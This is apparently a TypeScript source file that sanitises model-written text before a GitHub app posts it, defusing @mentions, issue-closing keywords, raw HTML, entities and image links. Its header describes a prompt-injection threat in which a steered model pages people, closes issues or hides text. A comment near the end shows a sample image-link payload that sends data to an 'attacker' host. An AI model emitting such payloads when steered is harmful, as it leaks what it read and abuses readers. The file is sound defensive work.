/**
 * Model-written text made safe to post on GitHub (issue 13). A model steered by text it read must
 * not be able to page people, close issues, or hide text from the people who read what the app
 * posts. So, outside code:
 * - @mentions of anyone but the requester, and every team mention, go into a code span: GitHub
 *   neither links nor notifies there, and a reader still reads the name (an invisible joiner
 *   would be stripped by the next sanitiser and looks like a mention);
 * - closing keywords with a reference (`fixes #3`, `Closes: org/repo#3`, `resolves <issue URL>`;
 *   GitHub's list: close, closes, closed, fix, fixes, fixed, resolve, resolves, resolved, any case,
 *   optional colon — docs.github.com "Linking a pull request to an issue using a keyword") go into a
 *   code span too, except the app's own `#N` (`allowClosing`);
 * - raw HTML is escaped (`<` → `&lt;`), so no comment, hidden element, image or tiny text hides
 *   anything; character references other than a few common ones are shown as written, since
 *   `&#64;user` renders, and mentions, as `@user`; link reference definitions, which render as
 *   nothing, are shown as written;
 * - a backtick that opens no code span is escaped, so no code span the app adds can pair with it
 *   and leave a mention outside;
 * - images become links (`![a](u)` → `\![a](u)`), so nothing is fetched unless a reader clicks.
 * Fenced code blocks and code spans are left exactly as they are, and an unclosed fence is closed,
 * so the text cannot swallow what the app puts after it. What cannot be told for certain to be code
 * (indented blocks, fences in block quotes, code spans holding `|` in a text with a table, whose
 * rows GitHub splits at `|` first) is treated as prose: uglier, never unsafe. Applying it again
 * changes nothing.
 */

export interface NeutralizeOptions {
  /** The person who asked for the run: the one mention left working. */
  requester: string;
  /** The issue the app itself closes (its `Closes #N`): that same-repository reference is kept. */
  allowClosing?: number | undefined;
}

export function neutralizeForGitHub(text: string, options: NeutralizeOptions): string {
  // GitHub reads a lone CR as a line break too; the fences below are found line by line.
  return untilStable(text.replace(/\r\n?/g, "\n"), (current) => neutralizeOnce(current, options, false));
}

/**
 * For one-line plain-text fields (issue titles): mentions and closing keywords as above, the text
 * otherwise as written, since GitHub shows a title's HTML and entities literally.
 */
export function neutralizeTitleForGitHub(text: string, options: NeutralizeOptions): string {
  return untilStable(text.replace(/\s+/g, " ").trim(), (current) => neutralizeOnce(current, options, true));
}

/**
 * A code span added in one pass can expose a mention the next pass must see (`#3@x` is no mention;
 * after `fixes #3` is wrapped, `@x` follows a code span and is one), so passes run to a fixed point.
 */
function untilStable(text: string, pass: (text: string) => string): string {
  let current = text;
  for (let i = 0; i < 5; i++) {
    const next = pass(current);
    if (next === current) break;
    current = next;
  }
  return current;
}

interface Segment {
  text: string;
  code: boolean;
  /** A prose segment that begins a line (not right after a code span). */
  startsLine: boolean;
}

function neutralizeOnce(text: string, options: NeutralizeOptions, plain: boolean): string {
  const parts = segments(text, plain);
  return parts
    .map((part, index) =>
      part.code
        ? part.text
        : neutralizeProse(part.text, {
            ...options,
            plain,
            startsLine: part.startsLine,
            afterCode: parts[index - 1]?.code === true,
            beforeCode: parts[index + 1]?.code === true,
          }),
    )
    .join("");
}

const DELIMITER_ROW = /^[ \t]*(?=[^|]*\|)(?=[^-]*-)[|:\- \t]+$/;
const FENCE_OPEN = /^( {0,3})(`{3,}(?=[^`]*$)|~{3,})/;
/** `[label]: destination` renders as nothing; a footnote (`[^1]:`) renders, and is left alone. */
const LINK_DEFINITION = /^( {0,3})\[(?!\^)((?:[^\]\\]|\\.)+)\]:/;

/** The text split into code (fenced blocks, code spans) and prose, as GitHub would read it. */
function segments(text: string, plain: boolean): Segment[] {
  const out: Segment[] = [];
  const push = (piece: string, code: boolean) => {
    if (!piece) return;
    const last = out.at(-1);
    if (last && last.code === code) last.text += piece;
    else out.push({ text: piece, code, startsLine: !last || last.text.endsWith("\n") });
  };
  let fence: { char: string; length: number; indent: number } | undefined;
  const lines = text.split("\n");
  // Without a delimiter row (`|---|---|`) there is no table, and no row to split a code span.
  const tables = lines.some((line) => DELIMITER_ROW.test(line));
  lines.forEach((line, index) => {
    const eol = index < lines.length - 1 ? "\n" : "";
    if (fence) {
      if (closesFence(line, fence)) {
        fence = undefined;
        return push(line + eol, true);
      }
      // A line left of the fence's own indentation ends the list item the fence is in, and the fence.
      if (line.trim() === "" || indentation(line) >= fence.indent) return push(line + eol, true);
      fence = undefined;
    }
    const open = plain ? null : FENCE_OPEN.exec(line);
    if (open) {
      fence = { char: open[2]![0]!, length: open[2]!.length, indent: open[1]!.length };
      return push(line + eol, true);
    }
    for (const piece of inlineSegments(plain ? line : line.replace(LINK_DEFINITION, "$1\\[$2]:"), tables)) push(piece.text, piece.code);
    push(eol, false);
  });
  if (fence) push(`${text.endsWith("\n") ? "" : "\n"}${fence.char.repeat(fence.length)}`, true);
  return out;
}

function closesFence(line: string, fence: { char: string; length: number }): boolean {
  const run = /^ {0,3}(`+|~+)[ \t]*$/.exec(line)?.[1];
  return run !== undefined && run[0] === fence.char && run.length >= fence.length;
}

function indentation(line: string): number {
  let columns = 0;
  for (const c of line) {
    if (c === " ") columns++;
    else if (c === "\t") columns += 4 - (columns % 4);
    else break;
  }
  return columns;
}

const AUTOLINK_SOURCE =
  "<(?:[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\\s<>]*|[A-Za-z0-9.!#$%&'*+/=?^_`{|}~-]+@[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?(?:\\.[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?)*)>";
const AUTOLINK_AT = new RegExp(AUTOLINK_SOURCE, "y");

/**
 * One line's code spans, by CommonMark's rules: a backslash escapes the next character, an autolink
 * wins over a backtick inside it, a run of n backticks closes at the next run of exactly n.
 */
function inlineSegments(line: string, tables: boolean): { text: string; code: boolean }[] {
  const out: { text: string; code: boolean }[] = [];
  let start = 0;
  let i = 0;
  while (i < line.length) {
    const c = line[i];
    if (c === "\\") {
      i += 2;
    } else if (c === "<") {
      AUTOLINK_AT.lastIndex = i;
      i += AUTOLINK_AT.exec(line)?.[0].length ?? 1;
    } else if (c === "`") {
      const n = backtickRun(line, i);
      const close = closingRun(line, i + n, n);
      if (close === -1) {
        i += n;
        continue;
      }
      const span = line.slice(i, close + n);
      // In a table row GitHub splits cells at `|` before it reads code spans.
      if (!(tables && span.includes("|"))) {
        out.push({ text: line.slice(start, i), code: false }, { text: span, code: true });
        start = close + n;
      }
      i = close + n;
    } else {
      i++;
    }
  }
  out.push({ text: line.slice(start), code: false });
  return out;
}

function backtickRun(line: string, at: number): number {
  let end = at;
  while (line[end] === "`") end++;
  return end - at;
}

function closingRun(line: string, from: number, length: number): number {
  for (let i = line.indexOf("`", from); i !== -1; i = line.indexOf("`", i)) {
    const n = backtickRun(line, i);
    if (n === length) return i;
    i += n;
  }
  return -1;
}

const KEYWORD = "close[sd]?|fix(?:e[sd])?|resolve[sd]?";
/** The same keywords before a reference, as plain text reads them (a commit message). */
const PLAIN_CLOSING = new RegExp(
  `\\b(${KEYWORD})(:?\\s+)(?:https?:\\/\\/\\S+?\\/([\\w.-]+\\/[\\w.-]+)\\/(?:issues|pull)\\/(\\d+)|([\\w.-]+\\/[\\w.-]+)?#(\\d+)|GH-(\\d+))`,
  "gi",
);

/**
 * A commit message is plain text, where a code span protects nothing, and `fixes #3` in it closes
 * issue 3 when the commit lands on the default branch. The model's words keep their meaning with
 * the reference spelled out ("fixes issue 3"), which GitHub does not act on.
 */
export function withoutClosingReferences(text: string): string {
  return text.replace(PLAIN_CLOSING, (_match, keyword: string, gap: string, urlRepo?: string, urlNumber?: string, repo?: string, number?: string, gh?: string) => {
    const where = urlRepo ?? repo;
    return `${keyword}${gap}${where ? `${where} ` : ""}issue ${urlNumber ?? number ?? gh}`;
  });
}

const REFERENCE = "#\\d+|GH-\\d+|[A-Za-z0-9_.-]+\\/[A-Za-z0-9_.-]+#\\d+|<?https?:\\/\\/[^\\s<>`|]+?\\/(?:issues|pull)\\/\\d+(?!\\d)>?";
/** Emphasis, a colon or one line break between keyword and reference do not stop GitHub reading it. */
const CLOSING = `(?<![A-Za-z0-9])(?<keyword>${KEYWORD})(?<gap>(?:[ \\t*_~:]|\\n(?![ \\t]*\\n))*)(?<reference>\\[?\\\\?(?:${REFERENCE}))`;
/** A bare URL GitHub turns into a link (GFM's extended autolink): a mention inside it is not one. */
const DOMAIN = "(?:[A-Za-z0-9_-]+\\.)*[A-Za-z0-9-]+\\.[A-Za-z0-9-]+";
const URL_SOURCE = `(?<![^\\s*_~(])(?:https?:\\/\\/|www\\.)${DOMAIN}[^\\s<\`]*`;
/** GitHub's logins (and managed users' `name_short`), and `org/team`; `a@b` is an address, not a mention. */
const MENTION = "(?<![A-Za-z0-9_])\\\\?@(?<login>[A-Za-z0-9][A-Za-z0-9_-]*)(?<team>\\/[A-Za-z0-9][A-Za-z0-9_-]*)?";
const ESCAPE = "\\\\[!-\\/:-@\\[-`{-~]";
const ENTITY = "&(?:#[0-9]{1,7}|#[xX][0-9A-Fa-f]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});";

const PROSE = new RegExp(
  [CLOSING, `(?<autolink>${AUTOLINK_SOURCE})`, `(?<url>${URL_SOURCE})`, MENTION, `(?<escape>${ESCAPE})`, "(?<image>!(?=\\[))", "(?<backtick>`)", "(?<lt><)", `(?<entity>${ENTITY})`].join("|"),
  "gi",
);

/** Common named references that render as a visible, harmless character. */
const SAFE_ENTITIES = new Set(
  "amp lt gt quot apos nbsp copy reg trade hellip mdash ndash lsquo rsquo ldquo rdquo laquo raquo middot bull times divide deg plusmn micro para sect larr rarr uarr darr harr lArr rArr hArr le ge ne asymp equiv infin minus check cross euro pound yen cent".split(" "),
);

interface ProseContext extends NeutralizeOptions {
  plain: boolean;
  startsLine: boolean;
  afterCode: boolean;
  beforeCode: boolean;
}

function neutralizeProse(text: string, context: ProseContext): string {
  return text.replace(PROSE, (match: string, ...args: unknown[]) => {
    const groups = args.at(-1) as Record<string, string | undefined>;
    const offset = args.at(-3) as number;
    /** In a code span; it must not touch a neighbour's backticks nor follow a lone backslash. */
    const wrap = (inner: string) => {
      const slashes = /\\*$/.exec(text.slice(0, offset))![0].length;
      const before = slashes % 2 === 1 ? "\\" : offset === 0 && context.afterCode && !context.startsLine ? " " : "";
      const after = offset + match.length === text.length && context.beforeCode ? " " : "";
      return `${before}\`${inner}\`${after}`;
    };
    if (groups.keyword !== undefined) {
      const reference = groups.reference!;
      if (context.allowClosing !== undefined && reference === `#${context.allowClosing}`) return match;
      return wrap(`${groups.keyword}${groups.gap!.replace(/\s+/g, " ")}${reference}`);
    }
    if (groups.autolink !== undefined) return match;
    if (groups.url !== undefined) {
      // After a code span GitHub may not link it: then a mention inside it is a mention.
      return offset === 0 && !context.startsLine ? `${match[0]}${neutralizeProse(match.slice(1), { ...context, afterCode: false, startsLine: false })}` : match;
    }
    if (groups.login !== undefined) {
      if (groups.team === undefined && groups.login.toLowerCase() === context.requester.toLowerCase()) return match;
      return wrap(match.replace(/^\\/, ""));
    }
    if (context.plain || groups.escape !== undefined) return match;
    // An image is fetched by every reader's browser (through GitHub's proxy): a model steered into
    // `![](https://attacker/?q=…)` could send what it read. As a plain link it is fetched only if clicked.
    if (groups.image !== undefined) return "\\!";
    if (groups.backtick !== undefined) return "\\`";
    if (groups.lt !== undefined) return "&lt;";
    return SAFE_ENTITIES.has(match.slice(1, -1)) ? match : `&amp;${match.slice(1)}`;
  });
}
